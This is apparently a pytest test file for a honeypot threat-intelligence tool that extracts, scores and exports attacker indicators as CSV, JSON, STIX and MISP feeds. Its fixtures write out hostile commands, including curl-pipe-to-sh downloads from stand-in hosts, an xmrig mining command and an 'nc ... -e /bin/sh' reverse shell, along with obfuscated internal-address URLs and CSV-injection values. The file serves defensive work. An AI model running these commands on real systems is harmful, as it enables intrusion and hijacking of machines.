"""What is shared of what was seen: which values, how sure they are and why, in five formats that others' tools read."""

import csv
import io
import json
import os
from datetime import date
from pathlib import Path
from typing import Any

import pymisp
import pytest
import stix2
from sqlalchemy import insert
from stix2patterns.validator import run_validator

from benchmarks.planted import Planted
from cowrie_assets.clock import US_PER_DAY, US_PER_SECOND, day_of_number
from cowrie_assets.cowrie.event_types import KNOWN
from cowrie_assets.indicators.collecting import Wanted, indicators, whole
from cowrie_assets.indicators.collection import is_late
from cowrie_assets.indicators.feeds import write_feeds
from cowrie_assets.indicators.formats import formats
from cowrie_assets.indicators.indicator import Indicator, IndicatorType, Reason
from cowrie_assets.indicators.storing import store_indicators
from cowrie_assets.reports.ways import collection_file
from cowrie_assets.warehouse.dictionary import Dictionaries
from cowrie_assets.warehouse.engine import Warehouse
from cowrie_assets.warehouse.schema import address_lists, tag_facts, verdict_facts
from cowrie_assets_tests import tables
from cowrie_assets_tests.campaigns.test_campaigns import FINGERPRINT, IMPLANT, did, put, put_files

pytestmark = pytest.mark.sqlite_first
DAY = 20_000
SOURCE, OTHER_SOURCE, SCANNER, PRIVATE = "45.9.148.10", "91.92.240.3", "198.20.69.74", "10.0.0.7"
MALWARE, EMPTY = "ab" * 32, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
WALLET = "1BoatSLRHtKNngkdXEeobR76b53LETtpyT"
DELIVERY = "wget -q http://45.9.148.10/x.sh -O /tmp/x; curl -s http://dl.badhost.example.net/b.sh | sh"
CONNECT = f"./xmrig -o stratum+tcp://pool.badhost.example.net:4444 -u {WALLET}; nc 45.9.148.99 31337 -e /bin/sh"
AS_OF = (DAY + 9) * US_PER_DAY
PUBLIC_HOST = "wget https://github.com/xmrig/xmrig/releases/x.tar.gz"


def planted() -> list[Planted]:
    return [
        did(DELIVERY, CONNECT, at=10, address=SOURCE),
        did(DELIVERY, IMPLANT, at=20, address=OTHER_SOURCE),
        did(DELIVERY, IMPLANT, PUBLIC_HOST, at=30 + US_PER_DAY // US_PER_SECOND, address=SOURCE),
        did(at=40, address=SCANNER),
        did("uname -a", at=50, address=PRIVATE),
    ]


def known(warehouse: Warehouse) -> None:
    """A list names the scanner; VirusTotal calls the file malicious."""
    with warehouse.write() as connection:
        scanner, malware, label = Dictionaries(KNOWN.__contains__).texts.resolve(
            connection, [SCANNER, MALWARE, "trojan.mirai"]
        )
        assert label
        number = connection.execute(
            insert(address_lists).values(name="census", kind="researcher").returning(address_lists.c.id)
        ).scalar_one()
        connection.execute(insert(tag_facts).values(address_id=scanner, list_id=number))
        connection.execute(
            insert(verdict_facts).values(
                kind=1, value_id=malware, provider_id=1, status=2, attempts=0, next_attempt_at=0, malicious=1,
                label="trojan.mirai/x y",
            )
        )  # fmt: skip


@pytest.fixture
def seen(warehouse: Warehouse) -> Warehouse:
    refs = put(warehouse, *planted())
    put_files(warehouse, {refs[0]: MALWARE, refs[1]: MALWARE, refs[2]: EMPTY})
    known(warehouse)
    return warehouse


def found(warehouse: Warehouse, **wanted: Any) -> dict[tuple[str, str], Indicator]:
    with warehouse.read() as connection:
        every = list(indicators(connection, Wanted(**wanted)))
    by_value = {(each.type.value, each.value): each for each in every}
    assert len(by_value) == len(every), "each type and value once"
    return by_value


def test_what_is_shared_and_how_sure_it_is(seen: Warehouse) -> None:
    shared = found(seen)
    assert set(shared) == {
        ("ipv4", SOURCE),
        ("ipv4", OTHER_SOURCE),
        ("domain", "dl.badhost.example.net"),
        ("url", "http://45.9.148.10/x.sh"),
        ("url", "http://dl.badhost.example.net/b.sh"),
        ("url", "https://github.com/xmrig/xmrig/releases/x.tar.gz"),
        ("endpoint", "45.9.148.99:31337"),
        ("endpoint", "pool.badhost.example.net:4444"),
        ("sha256", MALWARE),
        ("ssh_key", FINGERPRINT),
        ("wallet", WALLET),
    }
    both = shared["ipv4", SOURCE]
    assert both.tags == ("source", "login", "commands", "delivery")
    assert both.confidence == 95 < sum(reason.points for reason in both.reasons)
    assert {"it ran commands (+20)", "a downloader was told to fetch from it (+45)"} < set(map(str, both.reasons))
    assert (both.sessions, both.sensors) == (3, 1)
    assert both.last_seen > both.first_seen
    assert shared["ipv4", OTHER_SOURCE].confidence == 55
    malware = shared["sha256", MALWARE]
    assert (malware.confidence, malware.tags) == (85, ("malware:trojan.mirai/x-y",))
    assert malware.expires_at == malware.last_seen + 365 * US_PER_DAY
    assert shared["url", "https://github.com/xmrig/xmrig/releases/x.tar.gz"].confidence == 25
    assert {each.campaign_id for each in shared.values()} != {None}

    left_out = {key: each.left_out for key, each in found(seen, all=True).items() if key not in shared}
    assert left_out == {
        ("ipv4", SCANNER): "a known scanner",
        ("ipv4", PRIVATE): "no public address",
        ("domain", "github.com"): "a host that everybody uses",
        ("sha256", EMPTY): "it holds next to nothing",
    }


def test_what_is_merely_named_is_not_shared(warehouse: Warehouse) -> None:
    """Whatever a line names: what a downloader is told to fetch, or what came from it, is told as that."""
    put(
        warehouse,
        did(
            "echo see http://bank.badhost.net/login; grep http://grep.badhost.net/x /etc/hosts",
            "# wget http://commented.badhost.net/x",
            'curl -A "Bot http://agent.badhost.net/b" -e http://referer.badhost.net/ http://told.badhost.net/x',
            "echo nc 45.9.148.98 99; xmrig -o pool.badhost.net:3333",
            f"{IMPLANT.replace('mdrfckr', 'http://comment.badhost.net/')}",
            "echo http://45.9.148.10/mine",
            at=10,
            address=SOURCE,
        ),
    )
    (ref,) = put(warehouse, did("sh x", at=20, address=OTHER_SOURCE))
    put_files(warehouse, {ref: MALWARE}, "http://came.badhost.net/x")
    shared = found(warehouse)
    reasons = {value: str(each.reasons[0]) for (_, value), each in shared.items()}
    assert set(shared) - {("sha256", MALWARE), ("ssh_key", FINGERPRINT)} == {
        ("ipv4", SOURCE),
        ("ipv4", OTHER_SOURCE),
        *(("domain", f"{each}.badhost.net") for each in ("told", "came")),
        *(("url", f"http://{each}.badhost.net/x") for each in ("told", "came")),
        ("endpoint", "pool.badhost.net:3333"),
    }
    assert reasons["http://told.badhost.net/x"] == "a downloader was told to fetch it (+45)"
    assert reasons["came.badhost.net"] == "something was fetched from it (+60)"
    assert shared["ipv4", SOURCE].tags == ("source", "login", "commands"), "to be named adds nothing, and hides nobody"
    named = {value: each for (_, value), each in found(warehouse, all=True).items() if each.left_out}
    assert set(named) > {
        "http://bank.badhost.net/login",
        "commented.badhost.net",
        "45.9.148.98:99",
        "comment.badhost.net",
    }
    assert {(each.left_out, each.confidence, each.tags) for each in named.values()} == {
        ("it is merely named", 20, ("named",))
    }


def test_what_lies_inside_or_holds_a_login_is_not_shared(warehouse: Warehouse) -> None:
    inside = [
        *("localhost", "0x7f000001", "2130706433", "017700000001", "127.1", "10.0.0.5", "[::1]", "[::ffff:10.0.0.5]"),
        *("router", "nas.local", "LOCALHOST.", "127%2e0.0.1"),
    ]
    urls = [f"http://{host}/x" for host in inside]
    anywhere = ["http://0x2d09940a/x", "http://[::ffff:45.9.148.10]/x"]
    put(
        warehouse,
        did(*(f"wget {url}" for url in (*urls, "http://u:p@auth.badhost.net/x", *anywhere)), at=1),
    )
    shared = found(warehouse, types=frozenset({IndicatorType.URL, IndicatorType.DOMAIN}))
    assert {value for _, value in shared} == {"auth.badhost.net", *anywhere}
    every = found(warehouse, types=frozenset({IndicatorType.URL}), all=True)
    assert {
        each.value: (each.left_out, len(each.reasons)) for each in every.values() if each.left_out
    } == dict.fromkeys(urls, ("no public address", 1))


def test_an_object_of_stix_does_not_depend_on_what_was_asked_for(seen: Warehouse) -> None:
    with seen.read() as connection:
        every = {each.key: each for each in indicators(connection, Wanted())}
        later = list(indicators(connection, Wanted(first=day_of_number(DAY + 1))))
        told = list(whole(connection, later))
    assert [each.key for each in told] == [each.key for each in later] and told != later
    assert told == [every[each.key] for each in told]


def test_what_is_asked_for(seen: Warehouse) -> None:
    later = found(seen, first=day_of_number(DAY + 1))
    assert ("ipv4", SOURCE) in later and ("ipv4", OTHER_SOURCE) not in later
    assert later["ipv4", SOURCE].first_seen < (DAY + 1) * US_PER_DAY, "first seen ever"
    assert later["ipv4", SOURCE].sessions == 1
    assert found(seen, last=date(2000, 1, 1)) == {}
    assert {kind for kind, _ in found(seen, types=frozenset({IndicatorType.SHA256}))} == {"sha256"}
    assert set(found(seen, min_confidence=85)) == {("ipv4", SOURCE), ("sha256", MALWARE)}


def test_every_format_is_read_by_others(seen: Warehouse) -> None:
    with seen.read() as connection:
        every = list(indicators(connection, Wanted()))
    made = {name: b"".join(write(every)) for name, write in formats("a week", AS_OF).items()}
    rows = list(csv.DictReader(io.StringIO(made["csv"].decode())))
    assert [row["value"] for row in rows] == made["txt"].decode().splitlines() == [each.value for each in every]
    assert rows[0]["tags"] == "source; login; commands; delivery"
    assert [each["value"] for each in json.loads(made["json"])["indicators"]] == [each.value for each in every]

    bundle = stix2.parse(made["stix"].decode(), allow_custom=True)
    patterns = [each.pattern for each in bundle.objects if each.type == "indicator"]
    assert len(set(patterns)) == len(every)
    assert all(run_validator(pattern, stix_version="2.1") == [] for pattern in patterns)
    assert b"".join(formats("another", AS_OF)["stix"](every)) == made["stix"], "ids follow from what they name"

    event = pymisp.MISPEvent()
    event.from_dict(**json.loads(made["misp"])["Event"])
    types = {attribute.value: attribute.type for attribute in event.attributes}
    assert types[SOURCE] == "ip-src" and types["45.9.148.99|31337"] == "ip-dst|port"
    assert types["pool.badhost.example.net|4444"] == "hostname|port" and types[WALLET] == "btc"
    assert len(types) == len(every)


@pytest.mark.parametrize("value", ["=1+2", "http://h/'||[x]", "http://h/\\'", "http://h/%27]"])
def test_a_value_breaks_no_format(value: str) -> None:
    each = Indicator(IndicatorType.URL, value, 0, 1, 1, 1, (Reason(1, "a reason"),), (), None)
    (bundle,) = [stix2.parse(b"".join(formats("x", AS_OF)["stix"]([each])).decode(), allow_custom=True)]
    assert run_validator(bundle.objects[-1].pattern, stix_version="2.1") == []
    line = b"".join(formats("x", AS_OF)["csv"]([each])).decode().splitlines()[1]
    assert not line.startswith("=") and ",=" not in line


def test_the_same_in_the_table_whatever_came_first(seen: Warehouse, databases: Any, tmp_path: Path) -> None:
    assert store_indicators(seen) == len(found(seen))
    table = tables.rows(seen, "indicators")
    with Warehouse.open(databases.sqlite.new(tmp_path / "other.db")) as other:
        refs: list[int] = []
        for one in reversed(planted()):
            refs = [*put(other, one), *refs]
        put_files(other, {refs[2]: EMPTY, refs[1]: MALWARE, refs[0]: MALWARE})
        known(other)
        store_indicators(other)
        assert store_indicators(other) == len(table)
        assert tables.rows(other, "indicators") == table


def test_a_feed_follows_its_report(seen: Warehouse, tmp_path: Path) -> None:
    day = day_of_number(DAY).isoformat()
    report = tmp_path / "daily" / day / "aggregate.json"
    report.parent.mkdir(parents=True)
    report.write_text("{}")
    (tmp_path / "daily" / "not a day").mkdir()
    (feed,) = write_feeds(seen, tmp_path)
    assert sorted(path.name for path in feed.folder.iterdir()) == [
        *("indicators.csv", "indicators.json", "indicators.misp.json", "indicators.stix.json", "indicators.txt"),
    ]
    assert SOURCE in (feed.folder / "indicators.txt").read_text().splitlines()
    assert all(path.stat().st_mode & 0o077 == 0 for path in feed.folder.iterdir())
    assert write_feeds(seen, tmp_path) == []
    assert not is_late(tmp_path)
    entries = json.loads(collection_file(tmp_path).read_bytes())["objects"]
    in_feed = json.loads((feed.folder / "indicators.stix.json").read_bytes())["objects"]
    assert sorted(each["object"]["id"] for each in entries) == sorted(each["id"] for each in in_feed)
    os.utime(report, (report.stat().st_atime, (feed.folder / "indicators.json").stat().st_mtime + 5))
    assert [each.period.label for each in write_feeds(seen, tmp_path)] == [day]
    assert json.loads(collection_file(tmp_path).read_bytes())["objects"] == entries, "nothing is another"
    kept = json.loads(collection_file(tmp_path).read_bytes())
    collection_file(tmp_path).write_text(json.dumps({**kept, "version": 1}))
    assert [each.period.label for each in write_feeds(seen, tmp_path)] == [day], "by other rules"
    (tmp_path / "daily" / "2001-01-01").mkdir()
    collection_file(tmp_path).unlink()
    assert [each.period.label for each in write_feeds(seen, tmp_path)] == [day], "a period without a report has no feed"
